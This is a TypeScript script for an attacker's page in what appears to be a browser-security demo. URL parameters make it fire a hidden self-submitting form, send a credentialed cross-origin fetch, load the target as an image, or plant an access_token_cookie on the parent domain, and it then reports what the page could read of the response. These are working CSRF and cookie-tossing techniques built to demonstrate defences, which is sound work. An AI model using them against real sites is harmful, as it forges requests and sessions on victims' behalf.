// The script of an attacker's page: sends what its address says, and tells the demo what it could read of the answer.

const query = new URLSearchParams(location.search)
const target = query.get('target') ?? ''
const status = document.querySelector('#status')

/** Keyed by what the address calls them. */
export const attacks: Record<string, () => Promise<string>> = {
  form: sendForm,
  fetch: sendFetch,
  image: loadImage,
  plant: plantCookie,
}

const report = await (attacks[query.get('attack') ?? ''] ?? refuse)()
if (status !== null) status.textContent = `What this page could read: ${report}.`
// Opened by itself, it has nobody to tell.
if (parent !== window) parent.postMessage(report, new URL(target).origin)

/** A form that submits itself: the answer goes into a frame, where this page tries to read it. */
async function sendForm(): Promise<string> {
  const form = document.createElement('form')
  const frame = document.createElement('iframe')
  frame.name = 'answer'
  frame.title = 'The answer of the site'
  Object.assign(form, { method: 'post', action: target, target: 'answer', hidden: true })
  const field = document.createElement('input')
  Object.assign(field, { name: 'to', value: 'mallory' })
  form.append(field)
  document.body.append(frame, form)
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
  form.submit()
  await loaded
  // Of a frame of another origin, script is given nothing.
  return frame.contentDocument === null ? 'nothing, the frame belongs to another origin' : 'the answer'
}

async function sendFetch(): Promise<string> {
  try {
    const response = await fetch(target, { method: 'POST', credentials: 'include', body: 'to=mallory' })
    return `the answer, ${(await response.text()).length} characters`
  } catch {
    return 'nothing, fetch was told that it failed'
  }
}

async function loadImage(): Promise<string> {
  const image = new Image()
  const loaded = new Promise<string>((resolve) => {
    image.addEventListener('load', () => resolve('an image'))
    image.addEventListener('error', () => resolve('nothing, there was no image to show'))
  })
  image.src = target
  return loaded
}

/** For the parent domain, so that it reaches the site; it goes by itself after a minute. */
async function plantCookie(): Promise<string> {
  const domain = location.hostname.split('.').slice(1).join('.')
  document.cookie = `access_token_cookie=planted; Domain=${domain}; Path=/; Max-Age=60`
  return 'nothing, it only planted a cookie'
}

async function refuse(): Promise<string> {
  return 'nothing, it knows no such attack'
}
